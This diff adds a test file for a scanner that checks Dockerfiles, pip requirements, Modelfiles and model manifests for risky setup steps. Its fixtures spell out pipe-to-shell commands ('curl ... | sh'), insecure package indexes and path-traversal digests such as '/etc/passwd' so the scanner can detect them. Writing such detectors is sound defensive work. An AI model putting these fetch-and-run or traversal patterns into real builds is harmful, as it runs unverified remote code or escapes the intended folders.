@@ -1,0 +1,93 @@
+import assert from "node:assert/strict";
+import { readdirSync, readFileSync } from "node:fs";
+import { test } from "node:test";
+import { assertChangesAreRead, report } from "../testing/cuts.ts";
+
+const TESTDATA = new URL("../../../testdata/setup-files/", import.meta.url);
+
+function read(name: string): Uint8Array {
+  return new Uint8Array(readFileSync(new URL(name, TESTDATA)));
+}
+
+/** Rules that a file sets off. */
+async function rules(name: string, text: string): Promise<string[]> {
+  const { findings } = await report(name, new TextEncoder().encode(text));
+  return [...new Set(findings.map(({ ruleId }) => ruleId.replace("setup-", "")))].sort();
+}
+
+test("everyday files are no models and have no finding", async () => {
+  for (const name of readdirSync(new URL("safe/", TESTDATA))) {
+    const { verdict, findings } = await report(name, read(`safe/${name}`));
+    assert.deepEqual([verdict, findings.map(({ message }) => message)], ["skipped", []], name);
+  }
+});
+
+test("bytes changed anywhere are read without a defect", async () => {
+  for (const name of ["safe/Dockerfile", "safe/requirements.txt", "harmful/manifest.json"]) {
+    await assertChangesAreRead(name.slice(name.indexOf("/") + 1), read(name), 23);
+  }
+});
+
+test("instructions of a Dockerfile are read as Docker reads them", async () => {
+  const of = (text: string) => rules("Dockerfile", `FROM x\n${text}\n`);
+  const script = "https://get.example.com/x.sh";
+  assert.deepEqual(await of(`RUN curl \\\n  # a comment\n  ${script} \\\n\n | sh`), [
+    "remote-script",
+  ]);
+  assert.deepEqual(await of(`run curl ${script} | sh`), ["remote-script"]);
+  assert.deepEqual(await of(`ONBUILD RUN curl ${script} | sh`), ["remote-script"]);
+  assert.deepEqual(await of(`RUN ["sh", "-c", "curl ${script} | sh"]`), ["remote-script"]);
+  assert.deepEqual(await of(`RUN --mount=type=cache,target=/x curl ${script} | sh`), [
+    "remote-script",
+  ]);
+  assert.deepEqual(await of(`RUN <<EOF\nset -e\ncurl ${script} | sh\nEOF\nRUN true`), [
+    "remote-script",
+  ]);
+  assert.deepEqual(await of(`ARG A=${script}\nRUN curl $A | sh`), ["remote-script"]);
+  assert.deepEqual(await of(`ARG A=https://sh.rustup.rs\nRUN curl \${A} | sh`), []);
+  assert.deepEqual(await of(`RUN curl \${A:-http://192.0.2.1/x} | sh`), ["unverified-script"]);
+  assert.deepEqual(await of(`ADD ${script} /x.sh\nRUN sh /x.sh`), ["remote-script"]);
+  assert.deepEqual(await of(`ADD http://192.0.2.1/data.tar /data`), []);
+  assert.deepEqual(await of(`RUN wget ${script}\nRUN bash x.sh`), ["remote-script"]);
+  assert.deepEqual(await of("ENV UV_INDEX_URL https://packages.example.com"), ["foreign-index"]);
+  assert.deepEqual(await of(`# RUN curl ${script} | sh`), []);
+  assert.deepEqual(await of(`LABEL x="curl ${script} | sh"`), []);
+});
+
+test("lines of requirements are read as pip reads them", async () => {
+  const of = (text: string) => rules("requirements-dev.txt", text);
+  assert.deepEqual(await of("x # --index-url http://192.0.2.1"), []);
+  assert.deepEqual(await of("#-i http://192.0.2.1"), []);
+  assert.deepEqual(await of("--index-url \\\r\n http://192.0.2.1/simple\r\n"), ["insecure-index"]);
+  assert.deepEqual(await of("-ihttp://192.0.2.1/simple"), ["insecure-index"]);
+  assert.deepEqual(await of("--pre --extra-index-url=https://packages.example.com"), [
+    "foreign-index",
+  ]);
+  assert.deepEqual(await of("-r http://192.0.2.1/requirements.txt"), ["insecure-index"]);
+  assert.deepEqual(await of("x@http://192.0.2.1/x.whl ; python_version > '3'"), ["insecure-index"]);
+  assert.deepEqual(await of("x[y] @ git+https://git.example.com/x"), ["foreign-package"]);
+  assert.deepEqual(await of("file:///opt/x.whl\n./x\nx @ file:x.whl"), []);
+});
+
+test("a Modelfile's paths and a manifest's digests are judged where they leave their folder", async () => {
+  const of = (text: string) => rules("Modelfile", text);
+  for (const place of ["llama3", "./a.gguf", "hf.co/a/b:Q4", "a/b.gguf", '"./a b.gguf"']) {
+    assert.deepEqual(await of(`FROM ${place}\n`), [], place);
+  }
+  for (
+    const place of ["/a.gguf", "../a.gguf", "~/a.gguf", "C:\\a.gguf", "a/../../b.gguf", '"/a b"']
+  ) {
+    assert.deepEqual(await of(`from ${place}\n`), ["outside-path"], place);
+  }
+  const manifest = (digest: string) =>
+    rules("latest", JSON.stringify({ schemaVersion: 2, layers: [{ digest }] }));
+  assert.deepEqual(await manifest(`sha256:${"a".repeat(64)}`), []);
+  assert.deepEqual(await manifest("sha256-abc"), []);
+  for (const digest of ["sha256:../../x", "/etc/passwd", "..\\x", "sha256:a/b"]) {
+    assert.deepEqual(await manifest(digest), ["digest-path"], digest);
+  }
+  assert.deepEqual(await rules("a.json", '{"schemaVersion": 2, "layers": [{"digest": "/x"}'), [
+    "digest-path",
+    "unread",
+  ]);
+});
